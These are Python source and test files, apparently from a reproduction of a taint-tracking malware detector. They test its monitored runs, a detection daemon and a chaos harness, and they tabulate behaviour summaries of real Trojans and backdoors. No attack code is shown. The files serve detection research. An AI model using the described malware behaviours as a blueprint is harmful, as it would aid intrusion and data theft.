        assert 999 not in stub_binary("/bin/x").data

    def test_provide_input(self):
        src = """
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 16
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
buf: .space 16
"""
        hth = HTH()
        hth.provide_input("typed\n")
        report = hth.run(assemble("/bin/t", src))
        assert report.console_output == "typed\n"

    def test_hosts_file_written_before_run(self):
        hth = HTH()
        hth.network.register_host("known.example")
        hth.run(assemble("/bin/t", "main:\n  mov eax, 0\n  ret"))
        assert "known.example" in hth.fs.read_text("/etc/hosts")

    def test_unmonitored_mode_produces_no_events(self):
        hth = HTH(monitored=False)
        report = hth.run(assemble("/bin/evil", EVIL))
        assert report.events == []
        assert report.warnings == []


class TestRunMonitored:
    def test_one_shot_helper(self):
        report = run_monitored(assemble("/bin/evil", EVIL))
        assert report.verdict is Verdict.LOW

    def test_setup_callback(self):
        seen = []
        run_monitored(
            assemble("/bin/hello", HELLO),
            setup=lambda hth: seen.append(hth),
        )
        assert len(seen) == 1 and isinstance(seen[0], HTH)


class TestRunReport:
    def make_report(self, severities):
        from repro.kernel.kernel import RunResult
        from repro.secpert.warnings import SecurityWarning

        return RunReport(
            program="/bin/t",
            argv=["/bin/t"],
            result=RunResult("all-exited", 10, 10),
            warnings=[
                SecurityWarning(severity=s, rule=f"r{i}", headline="h")
                for i, s in enumerate(severities)
            ],
            events=[],
            console_output="",
            exit_code=0,
        )

    def test_verdict_mapping(self):
        assert self.make_report([]).verdict is Verdict.BENIGN
        assert self.make_report([Severity.LOW]).verdict is Verdict.LOW
        assert (
            self.make_report([Severity.LOW, Severity.HIGH]).verdict
            is Verdict.HIGH
        )

    def test_counts(self):
        report = self.make_report([Severity.LOW, Severity.LOW,
                                   Severity.MEDIUM])
        assert report.warning_counts() == {"LOW": 2, "MEDIUM": 1, "HIGH": 0}

    def test_summary_line(self):
        report = self.make_report([Severity.HIGH])
        line = report.summary_line()
        assert "verdict=high" in line
        assert "HIGH=1" in line

    def test_verdict_flagged_property(self):
        assert not Verdict.BENIGN.flagged
        assert Verdict.LOW.flagged
        assert Verdict.from_severity(None) is Verdict.BENIGN
        assert Verdict.from_severity(Severity.MEDIUM) is Verdict.MEDIUM

    def test_warnings_by_rule(self):
        report = self.make_report([Severity.LOW, Severity.HIGH])
        assert len(report.warnings_by_rule("r0")) == 1
