"""End-to-end daemon tests: the serve robustness contract, live.

Each test boots a real ServeDaemon (unix socket and/or HTTP) with a
real worker pool and holds one promise from the module docstring:
streamed warnings land before the report, served reports are
bit-identical to batch, overload answers 429/queue-full instead of
buffering, kills are contained and healed, shutdown drains, and a
chaos round answers every submission.
"""

import asyncio
import contextlib
import json

from repro.api import Session
from repro.core.options import RunOptions
from repro.faultinject import (
    DaemonChaosProfile,
    FaultProfile,
    run_serve_chaos,
)
from repro.fleet.refs import WorkloadRef
from repro.serve import (
    ServeClient,
    ServeDaemon,
    Submission,
    http_get,
    http_get_text,
    http_submit,
    submit_async,
)
from repro.serve.admission import (
    REASON_QUEUE_FULL,
    REASON_RATE_LIMITED,
    REASON_SHUTTING_DOWN,
    REASON_TICK_BUDGET,
)

BENIGN = Submission(
    source="main:\n    mov eax, 0\n    ret\n", name="benign"
)

#: ~0.6s of guest time — long enough to be reliably mid-run when the
#: test intervenes (kill, backpressure probe, drain), short enough to
#: keep the suite quick.
_SLOW_SRC = """
main:
    mov ecx, 300000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    ret
"""
SLOW = Submission(source=_SLOW_SRC, name="slow")

TROJAN_TABLE, TROJAN_NAME = "4", "Remote execve"


def run(coro, timeout=120.0):
    return asyncio.run(asyncio.wait_for(coro, timeout))


@contextlib.asynccontextmanager
async def daemon(tmp_path, **kwargs):
    kwargs.setdefault("unix_path", str(tmp_path / "serve.sock"))
    kwargs.setdefault("workers", 1)
    d = ServeDaemon(**kwargs)
    await d.start()
    await d.wait_ready()
    try:
        yield d
    finally:
        await d.shutdown(drain=True, timeout=60.0)


async def wait_until(predicate, timeout=15.0):
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while not predicate():
        if loop.time() > deadline:
            raise TimeoutError("condition never became true")
        await asyncio.sleep(0.02)


def kinds(events):
    return [e.get("kind") for e in events]


# ---------------------------------------------------------------------------
# streaming + bit-identity


class TestServedDetection:
    def test_warning_streams_before_the_report(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(workload=(TROJAN_TABLE, TROJAN_NAME))
                return await submit_async(d.unix_path, sub)

        events = run(main())
        ks = kinds(events)
        assert ks[0] == "accepted"
        assert ks[-1] == "report"
        assert "warning" in ks, "no live warning reached the client"
        assert ks.index("warning") < ks.index("report")
        warnings = [e for e in events if e["kind"] == "warning"]
        assert [w["seq"] for w in warnings] == list(range(len(warnings)))
        assert warnings[0]["warning"]["severity"] in (
            "LOW", "MEDIUM", "HIGH"
        )
        assert any(
            w["warning"]["severity"] == "HIGH" for w in warnings
        ), "the Table 4 Trojan should stream a HIGH warning"

    def test_served_report_is_bit_identical_to_batch(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(workload=(TROJAN_TABLE, TROJAN_NAME))
                return await submit_async(d.unix_path, sub)

        served = run(main())[-1]
        batch = Session().run_workload(
            WorkloadRef.from_registry(TROJAN_TABLE, TROJAN_NAME).resolve(),
            options=RunOptions(),
        )
        def dumps(r):
            return json.dumps(r, sort_keys=True, default=str)

        assert dumps(served["report"]) == dumps(batch.to_dict())
        assert served["ok"] is True  # registry classification check

    def test_blocking_client_sees_the_same_stream(self, tmp_path):
        seen = []

        async def main():
            async with daemon(tmp_path) as d:
                loop = asyncio.get_running_loop()
                client = ServeClient(d.unix_path)
                sub = Submission(workload=(TROJAN_TABLE, TROJAN_NAME))
                return await loop.run_in_executor(
                    None, client.submit, sub, seen.append
                )

        terminal = run(main())
        assert terminal["kind"] == "report"
        assert "warning" in kinds(seen)


# ---------------------------------------------------------------------------
# backpressure and rejection


class TestBackpressure:
    def test_queue_full_is_answered_immediately(self, tmp_path):
        async def main():
            async with daemon(tmp_path, queue_limit=1) as d:
                slow = asyncio.create_task(
                    submit_async(d.unix_path, SLOW)
                )
                await wait_until(lambda: d.admission.depth == 1)
                turned_away = await submit_async(d.unix_path, BENIGN)
                return turned_away, await slow

        turned_away, slow_events = run(main())
        assert kinds(turned_away) == ["rejected"]
        assert turned_away[0]["reason"] == REASON_QUEUE_FULL
        # the in-flight submission was untouched by the overload
        assert kinds(slow_events)[-1] == "report"

    def test_tenant_rate_limit(self, tmp_path):
        async def main():
            async with daemon(tmp_path, rate=0.1, burst=2.0) as d:
                first = await submit_async(d.unix_path, BENIGN)
                # an identical resubmission answers from the verdict
                # cache (no queue slot, no tick spend) but still pays a
                # rate token, so replay storms stay bounded
                hit = await submit_async(d.unix_path, BENIGN)
                # the tenant's bucket is drained: even a replay of the
                # cached submission is turned away before key digesting
                replay = await submit_async(d.unix_path, BENIGN)
                # novel work from the drained tenant too
                novel = Submission(
                    source=BENIGN.source, argv=["novel"], name="benign"
                )
                second = await submit_async(d.unix_path, novel)
                # a different tenant still gets in
                other = await submit_async(
                    d.unix_path,
                    Submission(source=BENIGN.source, argv=["novel"],
                               tenant="other"),
                )
                return first, hit, replay, second, other

        first, hit, replay, second, other = run(main())
        assert kinds(first)[-1] == "report"
        assert hit[-1]["kind"] == "report"
        assert hit[-1]["cached"] is True
        assert replay[0]["reason"] == REASON_RATE_LIMITED
        assert second[0]["reason"] == REASON_RATE_LIMITED
        assert kinds(other)[-1] == "report"

    def test_tick_budget_prices_big_runs_out(self, tmp_path):
        async def main():
            async with daemon(
                tmp_path, tick_rate=1000.0, tick_burst=1000.0
            ) as d:
                big = Submission(
                    source=BENIGN.source,
                    options=RunOptions(max_ticks=5000),
                )
                small = Submission(
                    source=BENIGN.source,
                    options=RunOptions(max_ticks=500),
                )
                return (
                    await submit_async(d.unix_path, big),
                    await submit_async(d.unix_path, small),
                )

        big_events, small_events = run(main())
        assert big_events[0]["reason"] == REASON_TICK_BUDGET
        assert kinds(small_events)[-1] == "report"

    def test_garbage_line_is_rejected_not_crashed(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                reader, writer = await asyncio.open_unix_connection(
                    d.unix_path
                )
                writer.write(b"this is not json\n")
                await writer.drain()
                line = await reader.readline()
                writer.close()
                # the daemon survived: a real submission still works
                ok = await submit_async(d.unix_path, BENIGN)
                return json.loads(line), ok

        rejected, ok = run(main())
        assert rejected["kind"] == "rejected"
        assert rejected["reason"] == "invalid-submission"
        assert kinds(ok)[-1] == "report"

    def test_malformed_submission_shape_is_rejected(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                reader, writer = await asyncio.open_unix_connection(
                    d.unix_path
                )
                both = {"source": "main:\n ret\n",
                        "workload": {"table": "4", "name": "Hardcode"}}
                writer.write((json.dumps(both) + "\n").encode())
                await writer.drain()
                line = await reader.readline()
                writer.close()
                return json.loads(line)

        rejected = run(main())
        assert rejected["kind"] == "rejected"
        assert rejected["reason"] == "invalid-submission"
        assert "exactly one" in rejected["detail"]


# ---------------------------------------------------------------------------
# HTTP front


class TestHttpFront:
    def test_healthz_stats_and_submit(self, tmp_path):
        async def main():
            async with daemon(
                tmp_path, unix_path=None, host="127.0.0.1", port=0
            ) as d:
                loop = asyncio.get_running_loop()
                health = await loop.run_in_executor(
                    None, http_get, "127.0.0.1", d.port, "/healthz"
                )
                events = await loop.run_in_executor(
                    None, http_submit, "127.0.0.1", d.port,
                    Submission(workload=(TROJAN_TABLE, TROJAN_NAME)),
                )
                stats = await loop.run_in_executor(
                    None, http_get, "127.0.0.1", d.port, "/stats"
                )
                missing = await loop.run_in_executor(
                    None, http_get, "127.0.0.1", d.port, "/nope"
                )
                return health, events, stats, missing

        health, events, stats, missing = run(main())
        assert health["status"] == 200
        assert health["body"]["ok"] is True
        assert health["body"]["live_workers"] == 1
        ks = kinds(events)
        assert ks[0] == "accepted" and ks[-1] == "report"
        assert "warning" in ks and ks.index("warning") < ks.index("report")
        assert stats["status"] == 200
        assert "0" in {
            str(k) for k in stats["body"]["supervisor"]["workers"]
        }
        assert missing["status"] == 404

    def test_healthz_reports_uptime_generations_provenance(self, tmp_path):
        async def main():
            async with daemon(
                tmp_path, unix_path=None, host="127.0.0.1", port=0
            ) as d:
                loop = asyncio.get_running_loop()
                return await loop.run_in_executor(
                    None, http_get, "127.0.0.1", d.port, "/healthz"
                )

        health = run(main())["body"]
        assert health["uptime_seconds"] >= 0
        assert health["worker_generations"] == {"0": 1}
        assert health["provenance_enabled"] is True

    def test_metrics_endpoint_serves_valid_openmetrics(self, tmp_path):
        from repro.telemetry.metrics import validate_openmetrics

        async def main():
            async with daemon(
                tmp_path, unix_path=None, host="127.0.0.1", port=0
            ) as d:
                loop = asyncio.get_running_loop()
                cold = await loop.run_in_executor(
                    None, http_get_text, "127.0.0.1", d.port, "/metrics"
                )
                await loop.run_in_executor(
                    None, http_submit, "127.0.0.1", d.port,
                    Submission(workload=(TROJAN_TABLE, TROJAN_NAME)),
                )
                warm = await loop.run_in_executor(
                    None, http_get_text, "127.0.0.1", d.port, "/metrics"
                )
                return cold, warm

        cold, warm = run(main())
        assert cold["status"] == 200
        assert cold["content_type"].startswith(
            "application/openmetrics-text"
        )
        # the serve/harrier/provenance families exist before any traffic
        assert validate_openmetrics(cold["text"]) == []
        for family in ("serve_admitted", "serve_rejected",
                       "harrier_events_emitted", "harrier_warnings",
                       "provenance_sources", "provenance_evidence"):
            assert f"# TYPE {family} counter" in cold["text"]
        assert validate_openmetrics(warm["text"]) == []
        assert 'serve_admitted_total{tenant="default"} 1' in warm["text"]
        assert "harrier_warnings_total 1" in warm["text"]

        def value(text, prefix):
            for line in text.splitlines():
                if line.startswith(prefix):
                    return float(line.rsplit(" ", 1)[1])
            raise AssertionError(f"{prefix} not exposed")

        assert value(warm["text"], "provenance_evidence_total") >= 1
        assert value(warm["text"], "provenance_sources_total") >= 1
        assert value(warm["text"], "harrier_events_emitted_total") >= 1

    def test_http_backpressure_maps_to_429(self, tmp_path):
        async def main():
            async with daemon(
                tmp_path, unix_path=None, host="127.0.0.1", port=0,
                tick_rate=1000.0, tick_burst=1000.0,
            ) as d:
                loop = asyncio.get_running_loop()
                big = Submission(
                    source=BENIGN.source,
                    options=RunOptions(max_ticks=5000),
                )
                return await loop.run_in_executor(
                    None, http_submit, "127.0.0.1", d.port, big
                )

        events = run(main())
        assert events[0]["kind"] == "rejected"
        assert events[0]["reason"] == REASON_TICK_BUDGET
        assert events[0]["http_status"] == 429


# ---------------------------------------------------------------------------
# self-healing and shutdown


class TestSelfHealing:
    def test_killed_busy_worker_is_contained_and_healed(self, tmp_path):
        async def main():
            async with daemon(tmp_path, max_retries=1) as d:
                task = asyncio.create_task(submit_async(d.unix_path, SLOW))
                await wait_until(
                    lambda: d.supervisor.busy_worker_ids() == [0]
                )
                await asyncio.sleep(0.1)
                assert d.supervisor.kill_worker(0)
                events = await task
                await wait_until(
                    lambda: d.supervisor.idle_workers() == 1, timeout=30.0
                )
                return events, d.supervisor.stats()

        events, stats = run(main())
        ks = kinds(events)
        assert "retry" in ks
        retry = events[ks.index("retry")]
        assert retry["reason"] == "worker-crash"
        assert ks[-1] == "report"
        assert events[-1]["report"]["verdict"] == "benign"
        assert events[-1]["timing"]["attempts"] == 2
        assert stats["workers"][0]["restarts"] >= 1

    def test_shutdown_drains_in_flight_work(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                task = asyncio.create_task(submit_async(d.unix_path, SLOW))
                await wait_until(lambda: d.admission.depth == 1)
                await d.shutdown(drain=True, timeout=60.0)
                return await task

        events = run(main())
        assert kinds(events)[-1] == "report", (
            "drain must let in-flight work finish, not error it out"
        )

    def test_draining_daemon_turns_new_work_away(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                d.admission.drain()
                return await submit_async(d.unix_path, BENIGN)

        events = run(main())
        assert events[0]["kind"] == "rejected"
        assert events[0]["reason"] == REASON_SHUTTING_DOWN


# ---------------------------------------------------------------------------
# daemon chaos


class TestDaemonChaos:
    def test_chaos_round_loses_nothing(self, tmp_path):
        trojan = Submission(
            workload=(TROJAN_TABLE, TROJAN_NAME), name="remote-execve"
        )
        slow_a = Submission(source=_SLOW_SRC, name="slow-a")
        slow_b = Submission(source=_SLOW_SRC, name="slow-b")
        faulted = Submission(
            source=_SLOW_SRC, name="faulted",
            options=RunOptions(
                fault_profile=FaultProfile(stall_rate=0.2), fault_seed=7
            ),
        )
        submissions = [trojan, slow_a, slow_b, faulted]

        # batch baseline for the bit-identity check (non-faulted only)
        from repro.serve.worker import execute_submission

        session = Session()
        baseline = {
            sub.name: execute_submission(session, sub)[0].to_dict()
            for sub in (trojan, slow_a, slow_b)
        }

        async def main():
            async with daemon(
                tmp_path, workers=2, max_retries=2
            ) as d:
                return await run_serve_chaos(
                    d, submissions,
                    profile=DaemonChaosProfile(
                        kill_interval=0.15, kills=2
                    ),
                    seed=1337,
                    baseline=baseline,
                )

        result = run(main(), timeout=180.0)
        assert result.all_answered, f"lost: {result.lost}"
        assert result.lost == []
        assert result.mismatches == [], (
            "non-faulted served reports must match batch bit-for-bit"
        )
        assert len(result.kills) <= 2
        summary = result.summary()
        assert summary["submissions"] == 4
        assert summary["answered"] == 4
