"""ChaosHarness: replay paper scenarios under fault schedules.

Turns "detection survives a flaky machine" into a regression-tested
property: a workload is run once per seed with a fresh
:class:`FaultInjector`, and the harness checks the verdict (and expected
rules) against the paper's classification for every seed.

Determinism contract: ``(workload, profile, seed)`` fully determines the
run — the injector's RNG is the only randomness in the stack, so the same
seed reproduces the same fault schedule, the same event stream, and the
same verdict, bit for bit.  ``chaos_seeds`` derives the per-trial seeds
from one base seed for the same reason.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.core.report import RunReport, Verdict
from repro.faultinject.injector import FaultInjector
from repro.faultinject.plan import (
    FaultProfile,
    InjectedFault,
    TRANSPARENT_PROFILE,
)
from repro.programs.base import Workload

#: Safety net for chaos runs: convert a wedged guest into a 'watchdog'
#: result rather than hanging the suite (generous; virtual-time budgets
#: normally end runs long before this).
DEFAULT_WALL_TIMEOUT = 60.0


def chaos_seeds(base_seed: int, count: int) -> List[int]:
    """``count`` distinct trial seeds derived deterministically."""
    # A fixed odd multiplier keeps the seeds well-separated while staying
    # reproducible from the single recorded base seed.
    return [(base_seed + 0x9E3779B1 * i) & 0x7FFFFFFF for i in range(count)]


@dataclass
class ChaosTrial:
    """One workload run under one fault schedule."""

    seed: int
    verdict: Verdict
    rules: Tuple[str, ...]
    reason: str                      # RunResult.reason
    #: InjectedFault records in delivery order — their string forms when
    #: the trial was rebuilt from a fleet wire record.
    faults: List[InjectedFault]
    classified_correctly: bool
    degraded: bool

    @property
    def fault_count(self) -> int:
        return len(self.faults)


@dataclass
class ChaosResult:
    """All trials of one workload; stable iff every trial classified
    exactly as the paper's table expects."""

    workload: str
    expected: Verdict
    profile: FaultProfile
    trials: List[ChaosTrial] = field(default_factory=list)

    @property
    def stable(self) -> bool:
        return all(t.classified_correctly for t in self.trials)

    @property
    def verdicts(self) -> List[Verdict]:
        return [t.verdict for t in self.trials]

    @property
    def total_faults(self) -> int:
        return sum(t.fault_count for t in self.trials)

    def failing_seeds(self) -> List[int]:
        """Seeds to hand to ``repro chaos --seed`` for replay."""
        return [t.seed for t in self.trials if not t.classified_correctly]


def run_one(
    workload: Workload,
    seed: int,
    profile: FaultProfile = TRANSPARENT_PROFILE,
    wall_timeout: Optional[float] = DEFAULT_WALL_TIMEOUT,
    telemetry=None,
) -> RunReport:
    """One chaos-perturbed run of ``workload`` (fresh machine+injector)."""
    from repro.core.options import RunOptions

    injector = FaultInjector(profile=profile, seed=seed)
    return workload.run(
        fault_injector=injector,
        telemetry=telemetry,
        options=RunOptions(wall_timeout=wall_timeout),
    )


def _trial_from_record(record, seed: int) -> ChaosTrial:
    """Rebuild one :class:`ChaosTrial` from a fleet wire record."""
    report = record.report
    if report is None:
        # Worker died or the run raised: surface as a wedged trial so
        # the suite reports it instead of silently dropping the seed.
        return ChaosTrial(
            seed=seed,
            verdict=Verdict.BENIGN,
            rules=(),
            reason="error",
            faults=[],
            classified_correctly=False,
            degraded=True,
        )
    return ChaosTrial(
        seed=seed,
        verdict=Verdict(report["verdict"]),
        rules=tuple(sorted({w["rule"] for w in report["warnings"]})),
        reason=report["result"]["reason"],
        faults=list(report["injected_faults"]),
        classified_correctly=bool(record.ok),
        degraded=bool(report["degraded"]),
    )


def run_chaos(
    workload: Workload,
    seeds: Sequence[int],
    profile: FaultProfile = TRANSPARENT_PROFILE,
    wall_timeout: Optional[float] = DEFAULT_WALL_TIMEOUT,
    telemetry=None,
) -> ChaosResult:
    """Run ``workload`` once per seed; collect stability evidence."""
    result = ChaosResult(
        workload=workload.name,
        expected=workload.expected_verdict,
        profile=profile,
    )
    for seed in seeds:
        report = run_one(
            workload, seed, profile, wall_timeout, telemetry=telemetry
        )
        result.trials.append(
            ChaosTrial(
                seed=seed,
                verdict=report.verdict,
                rules=tuple(sorted({w.rule for w in report.warnings})),
                reason=report.result.reason,
                faults=list(report.injected_faults),
                classified_correctly=workload.classified_correctly(report),
                degraded=report.degraded,
            )
        )
    return result


def run_chaos_suite(
    workloads: Sequence[Workload],
    base_seed: int = 1337,
    trials: int = 10,
    profile: FaultProfile = TRANSPARENT_PROFILE,
    wall_timeout: Optional[float] = DEFAULT_WALL_TIMEOUT,
    workers: int = 1,
    shard_by: str = "name",
) -> List[ChaosResult]:
    """The chaos stability suite: every workload under ``trials`` distinct
    fault schedules derived from ``base_seed``.

    ``workers > 1`` shards the (workload × seed) grid across a fleet of
    processes.  Items may then be :class:`repro.fleet.WorkloadRef` or
    registry :class:`Workload` rows (resolved to refs by name).  Results
    are identical either way: ``(workload, profile, seed)`` determines a
    trial bit-for-bit, the fleet merges in task order, and chaos runs are
    never retried — a watchdog kill under faults is a *finding*, not
    scheduling noise.
    """
    seeds = chaos_seeds(base_seed, trials)
    if workers > 1:
        return _run_chaos_fleet(
            workloads, seeds, profile, wall_timeout, workers, shard_by
        )
    resolved = [
        w if isinstance(w, Workload) else w.resolve() for w in workloads
    ]
    return [
        run_chaos(w, seeds, profile, wall_timeout) for w in resolved
    ]


def _run_chaos_fleet(
    workloads,
    seeds: Sequence[int],
    profile: FaultProfile,
    wall_timeout: Optional[float],
    workers: int,
    shard_by: str,
) -> List[ChaosResult]:
    """Fan the (workload × seed) grid out over a fleet and regroup."""
    from repro.core.options import RunOptions
    from repro.fleet import FleetTask, run_fleet, workload_refs

    def as_ref(item):
        if isinstance(item, Workload):
            for ref in workload_refs():
                if ref.name == item.name:
                    return ref
            raise LookupError(
                f"workload {item.name!r} is not a registry row; pass a "
                f"repro.fleet.WorkloadRef to run it in a chaos fleet"
            )
        return item

    refs = [as_ref(item) for item in workloads]
    base = RunOptions(wall_timeout=wall_timeout)
    tasks = [
        FleetTask(
            index=i * len(seeds) + j,
            ref=ref,
            options=base.with_faults(profile, seed),
        )
        for i, ref in enumerate(refs)
        for j, seed in enumerate(seeds)
    ]
    fleet = run_fleet(
        tasks, workers=workers, shard_by=shard_by, max_retries=0
    )
    results: List[ChaosResult] = []
    per = len(seeds)
    for i, ref in enumerate(refs):
        records = fleet.runs[i * per:(i + 1) * per]
        results.append(
            ChaosResult(
                workload=ref.name,
                expected=ref.resolve().expected_verdict,
                profile=profile,
                trials=[
                    _trial_from_record(record, seed)
                    for record, seed in zip(records, seeds)
                ],
            )
        )
    return results
