"""Exploit characterization data (paper Tables 1 and 2).

Table 1 summarizes the execution patterns of the nine real-world
malicious-code examples of section 2.1.  Table 2 enumerates the legal
(data source x resource-ID origin) combinations of section 5.1 — here
derived from the taint model so the table stays consistent with the
implementation.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.taint.tags import DataSource


@dataclass(frozen=True)
class ExploitProfile:
    """One Table 1 row."""

    name: str
    kind: str
    no_user_intervention: bool
    remotely_directed: bool
    hardcoded_resources: bool
    degrades_performance: bool
    summary: str


#: Table 1, transcribed from sections 2.1-2.2.
TABLE1_PROFILES: Tuple[ExploitProfile, ...] = (
    ExploitProfile(
        "PWSteal.Tarno.Q", "Trojan", True, False, True, False,
        "logs passwords/web forms, posts them to predefined URLs",
    ),
    ExploitProfile(
        "Trojan.Lodeight.A", "Trojan/Backdoor", True, True, True, False,
        "downloads a remote file (Beagle), opens a backdoor on TCP 1084",
    ),
    ExploitProfile(
        "W32.Mytob.J@mm", "Worm/Backdoor", True, True, True, True,
        "mass mailer; FTP server + IRC command channel",
    ),
    ExploitProfile(
        "Trojan.Vundo", "Trojan/Adware", True, True, True, True,
        "downloader + injected adware DLL; drains virtual memory",
    ),
    ExploitProfile(
        "Windows-update.com", "Trojan dropper", True, True, True, False,
        "fake site drops custom Trojans per downloaded configuration",
    ),
    ExploitProfile(
        "W32/MyDoom.B", "Virus/Backdoor", True, True, True, False,
        "registry persistence; ctfmon.dll backdoor / TCP proxy",
    ),
    ExploitProfile(
        "Phatbot", "Trojan/Bot", True, True, True, True,
        "p2p-controlled bot: steals keys, runs system(), kills processes",
    ),
    ExploitProfile(
        "Sendmail Trojan", "Trojan", True, True, True, False,
        "build-time payload connects to a fixed server on port 6667",
    ),
    ExploitProfile(
        "TCP Wrappers Trojan", "Trojan/Backdoor", True, True, True, False,
        "root shell for source port 421; mails whoami/uname home",
    ),
)


def table1_rows() -> List[Tuple[str, str, str, str, str]]:
    """Rows ready for printing (check marks as in the paper)."""
    def mark(flag: bool) -> str:
        return "X" if flag else ""

    return [
        (
            p.name,
            mark(p.no_user_intervention),
            mark(p.remotely_directed),
            mark(p.hardcoded_resources),
            mark(p.degrades_performance),
        )
        for p in TABLE1_PROFILES
    ]


#: Which data sources carry a resource identifier whose *own* origin is
#: tracked (section 5.1 / Table 2).
_HAS_RESOURCE_ID = {
    DataSource.FILE: "File name",
    DataSource.SOCKET: "Socket name (address)",
}

#: Origins a resource identifier can have.
_ID_ORIGINS = (
    DataSource.USER_INPUT,
    DataSource.FILE,
    DataSource.SOCKET,
    DataSource.BINARY,
)


def table2_rows() -> List[Tuple[str, str, str]]:
    """(data source, resource id, resource-id origin) rows of Table 2."""
    rows: List[Tuple[str, str, str]] = []
    for source in (
        DataSource.USER_INPUT,
        DataSource.FILE,
        DataSource.SOCKET,
        DataSource.BINARY,
        DataSource.HARDWARE,
    ):
        resource_id = _HAS_RESOURCE_ID.get(source)
        if resource_id is None:
            rows.append((source.value, "—", "—"))
        else:
            for origin in _ID_ORIGINS:
                rows.append((source.value, resource_id, origin.value))
    return rows
