"""Micro-benchmarks (paper Tables 4-6)."""

from repro.programs.micro.execflow import table4_workloads
from repro.programs.micro.infoflow import (
    Table6Row,
    row_workload,
    table6_rows,
    table6_workloads,
)
from repro.programs.micro.resource import table5_workloads

__all__ = [
    "table4_workloads",
    "table5_workloads",
    "table6_workloads",
    "table6_rows",
    "row_workload",
    "Table6Row",
]
