"""Mini-ISA substrate: instruction set, assembler, images, CPU interpreter.

This package replaces the paper's x86/PIN environment with a small register
machine that preserves everything Harrier observes: per-instruction data
movement, hardcoded ``.data`` constants, basic blocks, CPUID, and the
``int 0x80`` syscall gate.
"""

from repro.isa.assembler import Assembler, AssemblyError, assemble
from repro.isa.cpu import (
    CPU,
    CpuFault,
    LOC_HARDWARE,
    LOC_IMM,
    LOC_ZERO,
    StepKind,
    StepResult,
    TaintTransfer,
    mem_loc,
    reg_loc,
)
from repro.isa.image import DataRelocation, Image, TextRelocation
from repro.isa.instructions import (
    CONTROL_TRANSFER_OPCODES,
    Imm,
    Instruction,
    Mem,
    Opcode,
    Reg,
)
from repro.isa.memory import (
    APP_BASE,
    FlatMemory,
    HEAP_BASE,
    LIBRARY_BASE,
    LIBRARY_STRIDE,
    MemoryFault,
    STACK_TOP,
)
from repro.isa.registers import (
    CPUID_REGISTERS,
    GP_REGISTERS,
    RegisterFile,
    SYSCALL_ARG_REGISTERS,
)
from repro.isa.translate import (
    EXIT_BUDGET,
    EXIT_CONTINUE,
    EXIT_FAULT,
    EXIT_HALT,
    EXIT_SYSCALL,
    BlockPlan,
    BlockRecord,
    translate_block,
)

__all__ = [
    "assemble",
    "Assembler",
    "AssemblyError",
    "Image",
    "TextRelocation",
    "DataRelocation",
    "Instruction",
    "Opcode",
    "Reg",
    "Imm",
    "Mem",
    "CONTROL_TRANSFER_OPCODES",
    "CPU",
    "CpuFault",
    "StepKind",
    "StepResult",
    "TaintTransfer",
    "reg_loc",
    "mem_loc",
    "LOC_IMM",
    "LOC_HARDWARE",
    "LOC_ZERO",
    "FlatMemory",
    "MemoryFault",
    "STACK_TOP",
    "HEAP_BASE",
    "APP_BASE",
    "LIBRARY_BASE",
    "LIBRARY_STRIDE",
    "GP_REGISTERS",
    "CPUID_REGISTERS",
    "SYSCALL_ARG_REGISTERS",
    "RegisterFile",
    "BlockPlan",
    "BlockRecord",
    "translate_block",
    "EXIT_CONTINUE",
    "EXIT_SYSCALL",
    "EXIT_HALT",
    "EXIT_FAULT",
    "EXIT_BUDGET",
]
