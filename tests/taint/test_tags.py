"""Unit and property tests for the multi-source taint tags."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.taint import EMPTY, DataSource, Tag, TagSet, union_all


def test_tag_requires_data_source():
    with pytest.raises(TypeError):
        Tag("FILE", "/etc/passwd")  # type: ignore[arg-type]


def test_tag_str_with_and_without_name():
    assert str(Tag(DataSource.FILE, "/etc/passwd")) == "FILE(/etc/passwd)"
    assert str(Tag(DataSource.HARDWARE)) == "HARDWARE"


def test_tag_renamed():
    tag = Tag(DataSource.FILE, "/a")
    assert tag.renamed("/b") == Tag(DataSource.FILE, "/b")
    assert tag.renamed(None).name is None


def test_empty_singleton():
    assert TagSet.empty() is TagSet.empty()
    assert EMPTY.is_empty()
    assert not EMPTY
    assert len(EMPTY) == 0


def test_of_constructor():
    ts = TagSet.of(DataSource.BINARY, "/bin/ls")
    assert len(ts) == 1
    assert Tag(DataSource.BINARY, "/bin/ls") in ts
    assert ts.has_source(DataSource.BINARY)
    assert not ts.has_source(DataSource.FILE)


def test_union_merges_tags():
    a = TagSet.of(DataSource.FILE, "/a")
    b = TagSet.of(DataSource.SOCKET, "host:80")
    merged = a.union(b)
    assert len(merged) == 2
    assert merged.has_source(DataSource.FILE)
    assert merged.has_source(DataSource.SOCKET)


def test_union_returns_self_when_subset():
    a = TagSet.of(DataSource.FILE, "/a")
    assert a.union(EMPTY) is a
    assert a.union(a) is a


def test_union_rejects_non_tagset():
    with pytest.raises(TypeError):
        TagSet.empty().union({Tag(DataSource.FILE, "/a")})  # type: ignore


def test_tagset_rejects_non_tags():
    with pytest.raises(TypeError):
        TagSet(["FILE"])  # type: ignore[list-item]


def test_with_tag_and_contains():
    ts = EMPTY.with_tag(Tag(DataSource.USER_INPUT))
    assert Tag(DataSource.USER_INPUT) in ts
    assert ts.with_tag(Tag(DataSource.USER_INPUT)) is ts


def test_without_source():
    ts = TagSet.of(DataSource.FILE, "/a").union(TagSet.of(DataSource.BINARY, "/b"))
    dropped = ts.without_source(DataSource.FILE)
    assert not dropped.has_source(DataSource.FILE)
    assert dropped.has_source(DataSource.BINARY)
    assert ts.without_source(DataSource.SOCKET) is ts


def test_restrict():
    ts = union_all(
        [
            TagSet.of(DataSource.FILE, "/a"),
            TagSet.of(DataSource.BINARY, "/b"),
            TagSet.of(DataSource.SOCKET, "s:1"),
        ]
    )
    only = ts.restrict(DataSource.FILE, DataSource.SOCKET)
